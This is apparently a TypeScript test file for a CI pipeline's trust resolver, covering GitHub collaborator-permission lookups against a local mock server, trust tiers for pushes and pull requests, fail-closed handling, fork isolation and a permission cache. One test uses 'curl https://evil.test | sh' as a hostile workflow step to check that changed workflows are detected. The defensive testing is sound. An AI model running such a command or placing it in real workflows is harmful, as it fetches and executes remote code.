import { after, before, beforeEach, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { IncomingHttpHeaders, Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import {
  ContributorCache,
  ContributorLookupError,
  cacheRefScopeOf,
  createGitHubContributorResolver,
  resolveTrust,
  workflowChangesIgnored,
} from '../../../src/pipeline/trust.ts';
import type { ContributorMismatch, ContributorResolver, Permission, ResolveTrustInput } from '../../../src/pipeline/trust.ts';
import { normalizeGitHubEvent } from '../../../src/pipeline/normalize.ts';
import { isDropped } from '../../../src/pipeline/normalized-event.ts';
import type { NormalizedEvent } from '../../../src/pipeline/normalized-event.ts';
import { parseLockFile } from '../../../src/lockfile/parse.ts';
import { exampleWith, specExampleText } from '../lockfile/helpers.ts';
import * as gh from './github-payloads.ts';

const HEAD_SHA = 'a'.repeat(40);
const BASE_SHA = 'b'.repeat(40);
const PUSH_SHA = '0d1a26e67d8f5eaf1f6ba5c57fc3c7d91ac0fd1c';

/** GitHub's collaborator-permission and user endpoints on 127.0.0.1, from tables the tests fill. */
class CollaboratorPeer {
  /** login → the answer to `collaborators/{login}/permission`. */
  readonly permissions = new Map<string, { status: number; body: unknown }>();
  readonly users = new Map<string, string>();
  readonly requests: { url: string; headers: IncomingHttpHeaders }[] = [];
  #server: Server | null = null;

  grant(login: string, id: number, permission: string, roleName: string = permission): void {
    this.permissions.set(login, { status: 200, body: { permission, role_name: roleName, user: { login, id } } });
  }

  async start(): Promise<string> {
    this.#server = createServer((request, response) => {
      const url = request.url ?? '';
      this.requests.push({ url, headers: request.headers });
      const login = /^\/repos\/acme\/app\/collaborators\/([^/]+)\/permission$/.exec(url)?.[1];
      const userId = /^\/user\/(\d+)$/.exec(url)?.[1];
      const user = userId === undefined ? undefined : this.users.get(userId);
      const answer =
        (login === undefined ? undefined : this.permissions.get(decodeURIComponent(login))) ??
        (user === undefined ? undefined : { status: 200, body: { login: user, id: Number(userId) } }) ?? {
          status: 404,
          body: { message: 'Not Found' },
        };
      response.writeHead(answer.status, { 'content-type': 'application/json' }).end(JSON.stringify(answer.body));
    });
    await new Promise<void>((resolve) => this.#server?.listen(0, '127.0.0.1', resolve));
    return `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}`;
  }

  async stop(): Promise<void> {
    this.#server?.closeAllConnections();
    await new Promise<void>((resolve) => this.#server?.close(() => resolve()));
  }
}

function event(eventName: string, payload: object, sender = gh.SENDER): NormalizedEvent {
  const result = normalizeGitHubEvent(eventName, { ...payload, sender });
  assert.ok(!isDropped(result), isDropped(result) ? result.dropped : '');
  return result;
}

const pullRequest = (options: Parameters<typeof gh.pullRequest>[1] = {}, sender = gh.SENDER) =>
  event('pull_request', gh.pullRequest('opened', options), sender);

describe('createGitHubContributorResolver against a local GitHub peer', () => {
  const peer = new CollaboratorPeer();
  let apiUrl = '';
  const mismatches: ContributorMismatch[] = [];
  const resolver = () =>
    createGitHubContributorResolver({ apiUrl, token: 'ghs_t', timeoutMs: 300, onMismatch: (m) => mismatches.push(m) });

  before(async () => {
    apiUrl = await peer.start();
  });
  after(() => peer.stop());
  beforeEach(() => {
    peer.permissions.clear();
    peer.requests.length = 0;
    mismatches.length = 0;
  });

  it('reads role_name, so maintain and triage are told apart from write and read', async () => {
    const roles = [
      ['admin', 'admin'],
      ['write', 'maintain'],
      ['write', 'write'],
      ['read', 'triage'],
      ['read', 'read'],
      ['none', 'none'],
    ];
    for (const [permission, role] of roles) {
      peer.grant('octocat', 583231, permission!, role);
      const answer = await resolver().permissionOf({ repository: 'acme/app', userId: '583231', login: 'octocat' });
      assert.equal(answer, role);
    }
    assert.equal(peer.requests[0]?.url, '/repos/acme/app/collaborators/octocat/permission');
    assert.equal(peer.requests[0]?.headers.authorization, 'Bearer ghs_t');
  });

  it('falls back to the base permission for a custom role', async () => {
    peer.grant('octocat', 583231, 'write', 'release-manager');
    assert.equal(await resolver().permissionOf({ repository: 'acme/app', userId: '583231', login: 'octocat' }), 'write');
  });

  it('refuses a login that names another account: none, and the mismatch is reported', async () => {
    peer.grant('octocat', 1, 'admin');
    assert.equal(await resolver().permissionOf({ repository: 'acme/app', userId: '583231', login: 'octocat' }), 'none');
    assert.deepEqual(mismatches, [{ repository: 'acme/app', userId: '583231', login: 'octocat', actualUserId: '1' }]);
  });

  it('finds the login from the numeric id when the event has none', async () => {
    peer.users.set('583231', 'octocat');
    peer.grant('octocat', 583231, 'write');
    assert.equal(await resolver().permissionOf({ repository: 'acme/app', userId: '583231' }), 'write');
    const urls = peer.requests.map((request) => request.url);
    assert.deepEqual(urls, ['/user/583231', '/repos/acme/app/collaborators/octocat/permission']);
  });

  it('throws a ContributorLookupError on an error status, an unknown user or a bad id', async () => {
    peer.permissions.set('octocat', { status: 502, body: { message: 'Bad Gateway' } });
    await assert.rejects(
      resolver().permissionOf({ repository: 'acme/app', userId: '583231', login: 'octocat' }),
      (error: unknown) => error instanceof ContributorLookupError && /HTTP 502: Bad Gateway/.test(error.message),
    );
    await assert.rejects(resolver().permissionOf({ repository: 'acme/app', userId: '999', login: 'ghost' }), /HTTP 404/);
    await assert.rejects(resolver().permissionOf({ repository: 'acme/app', userId: '42' }), /GET \/user\/42 answered HTTP 404/);
    const before = peer.requests.length;
    await assert.rejects(resolver().permissionOf({ repository: 'acme/app', userId: 'octocat' }), /not numeric/);
    assert.equal(peer.requests.length, before, 'nothing is asked for a login passed as an id');
  });
});

describe('resolveTrust (TRUST-1..4)', () => {
  const peer = new CollaboratorPeer();
  let apiUrl = '';
  let resolver: ContributorResolver;
  const trust = (input: Omit<ResolveTrustInput, 'defaultBranch' | 'provider'> & Partial<ResolveTrustInput>) =>
    resolveTrust({ provider: 'github', defaultBranch: 'develop', resolver, ...input });

  before(async () => {
    apiUrl = await peer.start();
    resolver = createGitHubContributorResolver({ apiUrl, token: 't', timeoutMs: 300 });
  });
  after(() => peer.stop());
  beforeEach(() => {
    peer.permissions.clear();
    peer.requests.length = 0;
  });

  it('trusts a default-branch push without asking anyone, and reads the pushed commit', async () => {
    const outcome = await trust({ event: event('push', gh.push('refs/heads/develop')) });
    const reason = 'push to the default branch develop';
    assert.deepEqual(outcome, { tier: 'trusted', lockSha: PUSH_SHA, lockSource: 'event', reason });
    assert.equal(peer.requests.length, 0);
  });

  it('trusts non-PR events of the local and generic providers, which have no resolver', async () => {
    const local: NormalizedEvent = { ...event('push', gh.push('refs/tags/v1')), cloneUrl: null };
    for (const provider of ['local', 'generic'] as const) {
      const outcome = await resolveTrust({ event: local, provider, defaultBranch: 'main' });
      assert.equal(outcome.tier, 'trusted');
      assert.deepEqual([outcome.lockSha, outcome.lockSource], [PUSH_SHA, 'event']);
    }
  });

  it('gives a PR from a writer the head commit and a PR from a reader the base commit', async () => {
    const cases = [
      ['write', 'trusted', HEAD_SHA, 'head'],
      ['admin', 'trusted', HEAD_SHA, 'head'],
      ['maintain', 'trusted', HEAD_SHA, 'head'],
      ['triage', 'known', BASE_SHA, 'base'],
      ['read', 'known', BASE_SHA, 'base'],
      ['none', 'unknown', BASE_SHA, 'base'],
    ] as const;
    for (const [role, tier, lockSha, lockSource] of cases) {
      peer.grant('octocat', 583231, role === 'maintain' ? 'write' : role === 'triage' ? 'read' : role, role);
      const outcome = await trust({ event: pullRequest() });
      const { tier: actual, lockSha: actualSha, lockSource: actualSource } = outcome;
      assert.deepEqual([actual, actualSha, actualSource], [tier, lockSha, lockSource], role);
      assert.equal(outcome.reason, `sender 583231 has ${role} permission on acme/app`);
    }
  });

  it('keeps a fork PR unknown even for an admin, without a lookup', async () => {
    peer.grant('octocat', 583231, 'admin');
    const outcome = await trust({ event: pullRequest({ headRepo: 'mallory/app' }) });
    assert.deepEqual(outcome, { tier: 'unknown', lockSha: BASE_SHA, lockSource: 'base', reason: 'pull request from a fork' });
    assert.equal(peer.requests.length, 0);
  });

  it('B13: a resolver failure fails closed to unknown, and an untrusted PR reads the base lock file', async () => {
    peer.permissions.set('octocat', { status: 500, body: { message: 'Server Error' } });
    const outcome = await trust({ event: pullRequest() });
    assert.equal(outcome.tier, 'unknown');
    assert.deepEqual([outcome.lockSha, outcome.lockSource], [BASE_SHA, 'base']);
    assert.match(outcome.reason, /contributor lookup failed, so the sender is unknown: .*HTTP 500/);
    const throwing: ContributorResolver = { permissionOf: () => Promise.reject(new Error('resolver crashed')) };
    const crashed = await trust({ event: pullRequest(), resolver: throwing });
    assert.deepEqual([crashed.tier, crashed.lockSha, crashed.lockSource], ['unknown', BASE_SHA, 'base']);
    const broken: ContributorResolver = { permissionOf: () => Promise.resolve(String('superuser') as Permission) };
    assert.equal((await trust({ event: pullRequest(), resolver: broken })).tier, 'unknown', 'an unexpected answer is no pass');
  });

  it('refuses a login/id mismatch as unknown and counts it', async () => {
    const mismatches: ContributorMismatch[] = [];
    const onMismatch = (mismatch: ContributorMismatch) => mismatches.push(mismatch);
    const counting = createGitHubContributorResolver({ apiUrl, token: 't', onMismatch });
    peer.grant('octocat', 4242, 'admin');
    const outcome = await trust({ event: pullRequest(), resolver: counting });
    assert.deepEqual([outcome.tier, outcome.lockSource], ['unknown', 'base']);
    assert.equal(mismatches.length, 1);
  });

  it('is unknown for a PR with no resolver or no sender id', async () => {
    const noResolver = await resolveTrust({ event: pullRequest(), provider: 'github', defaultBranch: 'develop' });
    const reason = 'no contributor resolver for the github provider';
    assert.deepEqual([noResolver.tier, noResolver.lockSource, noResolver.reason], ['unknown', 'base', reason]);
    const anonymous = pullRequest();
    delete anonymous.envelope.senderUserId;
    assert.equal((await trust({ event: anonymous })).reason, 'the event names no sender id');
  });

  it('uses the sender permission for GitHub events other than default-branch pushes, at the event commit', async () => {
    peer.grant('octocat', 583231, 'read');
    const comment = await trust({ event: event('issue_comment', gh.issueComment('/deploy', false)) });
    assert.deepEqual([comment.tier, comment.lockSha, comment.lockSource], ['known', null, 'event']);
    peer.grant('octocat', 583231, 'write');
    const branchPush = await trust({ event: event('push', gh.push('refs/heads/feature/x')) });
    assert.deepEqual([branchPush.tier, branchPush.lockSha, branchPush.lockSource], ['trusted', PUSH_SHA, 'event']);
  });

  it('is unknown at the base for a PR that does not say whether it comes from a fork', async () => {
    peer.grant('octocat', 583231, 'admin');
    const unsure = pullRequest();
    delete unsure.envelope.isForkPR;
    const outcome = await trust({ event: unsure, provider: 'local' });
    assert.deepEqual([outcome.tier, outcome.lockSha, outcome.lockSource], ['unknown', BASE_SHA, 'base']);
    assert.equal(peer.requests.length, 0);
  });

  it('reads the default branch head, never the PR head, when an untrusted PR has no base commit', async () => {
    const noBase = pullRequest({ headRepo: 'mallory/app' });
    delete noBase.baseSha;
    assert.deepEqual([(await trust({ event: noBase })).lockSha, (await trust({ event: noBase })).lockSource], [null, 'base']);
  });

  it('trusts a schedule, and fails a GitHub non-PR lookup closed at the event commit', async () => {
    const push = event('push', gh.push('refs/heads/feature/x'));
    const schedule: NormalizedEvent = { ...push, envelope: { ...push.envelope, type: 'schedule' }, sha: null };
    assert.deepEqual((await trust({ event: schedule })).tier, 'trusted');
    peer.permissions.set('octocat', { status: 503, body: { message: 'Service Unavailable' } });
    const outcome = await trust({ event: push });
    assert.deepEqual([outcome.tier, outcome.lockSha, outcome.lockSource], ['unknown', PUSH_SHA, 'event']);
  });

  it('treats reviews as pull requests: head for a trusted reviewer, base otherwise', async () => {
    peer.grant('octocat', 583231, 'write');
    const trusted = await trust({ event: event('pull_request_review', gh.review('approved')) });
    assert.deepEqual([trusted.tier, trusted.lockSha, trusted.lockSource], ['trusted', HEAD_SHA, 'head']);
    peer.grant('octocat', 583231, 'read');
    const known = await trust({ event: event('pull_request_review_comment', gh.reviewComment()) });
    assert.deepEqual([known.tier, known.lockSha, known.lockSource], ['known', BASE_SHA, 'base']);
  });
});

describe('ContributorCache (TRUST-5)', () => {
  const peer = new CollaboratorPeer();
  let resolver: ContributorResolver;
  let time = 0;
  const now = () => time;

  before(async () => {
    resolver = createGitHubContributorResolver({ apiUrl: await peer.start(), token: 't' });
  });
  after(() => peer.stop());
  beforeEach(() => {
    peer.requests.length = 0;
    time = 0;
  });

  it('answers the same sender from the cache for 15 minutes', async () => {
    const cache = new ContributorCache({ now });
    peer.grant('octocat', 583231, 'write');
    const input = { event: pullRequest(), provider: 'github', defaultBranch: 'develop', resolver, cache } as const;
    assert.equal((await resolveTrust(input)).tier, 'trusted');
    peer.grant('octocat', 583231, 'read');
    time += 15 * 60 * 1000 - 1;
    assert.equal((await resolveTrust(input)).tier, 'trusted', 'cached');
    time += 1;
    assert.equal((await resolveTrust(input)).tier, 'known', 'expired and looked up again');
    assert.equal(peer.requests.length, 2);
    assert.deepEqual([cache.hits, cache.misses], [1, 2]);
    assert.equal(ContributorCache.key({ provider: 'github', repository: 'acme/app', userId: '583231' }), 'github:acme/app:583231');
  });

  it('drops a repository on invalidate and an owner on invalidateOwner', () => {
    const cache = new ContributorCache({ now });
    cache.set({ provider: 'github', repository: 'acme/app', userId: '1' }, 'write');
    cache.set({ provider: 'local', repository: 'acme/app', userId: '1' }, 'write');
    cache.set({ provider: 'github', repository: 'acme/lib', userId: '1' }, 'read');
    cache.set({ provider: 'github', repository: 'other/app', userId: '1' }, 'admin');
    assert.equal(cache.invalidate('Acme/App'), 2);
    assert.equal(cache.get({ provider: 'github', repository: 'acme/lib', userId: '1' }), 'read');
    assert.equal(cache.invalidateOwner('acme'), 1);
    assert.equal(cache.size, 1);
  });

  it('does not use an entry stored under another login, so a mismatch or a rename is looked up again', async () => {
    const cache = new ContributorCache({ now });
    cache.set({ provider: 'github', repository: 'acme/app', userId: '583231', login: 'old-name' }, 'none');
    peer.grant('octocat', 583231, 'write');
    const outcome = await resolveTrust({ event: pullRequest(), provider: 'github', defaultBranch: 'develop', resolver, cache });
    assert.equal(outcome.tier, 'trusted');
    assert.equal(peer.requests.length, 1);
  });

  it('keeps 10 000 entries', () => {
    const cache = new ContributorCache({ now });
    for (let id = 0; id <= 10_000; id += 1) cache.set({ provider: 'github', repository: 'acme/app', userId: String(id) }, 'read');
    assert.equal(cache.size, 10_000);
    assert.equal(cache.get({ provider: 'github', repository: 'acme/app', userId: '0' }), undefined);
  });
});

describe('workflowChangesIgnored (TRUST-4) and cacheRefScopeOf (TRUST-5)', () => {
  const lockOf = (document: unknown) => {
    const parsed = parseLockFile(typeof document === 'string' ? document : JSON.stringify(document));
    assert.ok(parsed.ok);
    return parsed.lock;
  };

  it('is false for the same workflows, whatever the key order or the stored contentHash', () => {
    const base = lockOf(specExampleText());
    const reordered = JSON.parse(specExampleText()) as Record<string, unknown>;
    const head = lockOf({ workflows: reordered.workflows, contentHash: 'f'.repeat(64), source: reordered.source, schemaVersion: 29 });
    assert.equal(workflowChangesIgnored(head, base), false);
  });

  it('is true when a workflow changed, even under the same contentHash, or when one side has no lock file', () => {
    const base = lockOf(specExampleText());
    const head = lockOf(exampleWith([['workflows', 0, 'jobs', 0, 'steps', 0, 'run'], 'curl https://evil.test | sh']));
    assert.equal(head.contentHash, base.contentHash);
    assert.equal(workflowChangesIgnored(head, base), true);
    assert.equal(workflowChangesIgnored(head, null), true);
    assert.equal(workflowChangesIgnored(null, base), true);
    assert.equal(workflowChangesIgnored(null, null), false);
  });

  it('shares build caches only between trusted refs', () => {
    assert.deepEqual((['trusted', 'known', 'unknown'] as const).map(cacheRefScopeOf), ['shared', 'isolated', 'isolated']);
  });
});
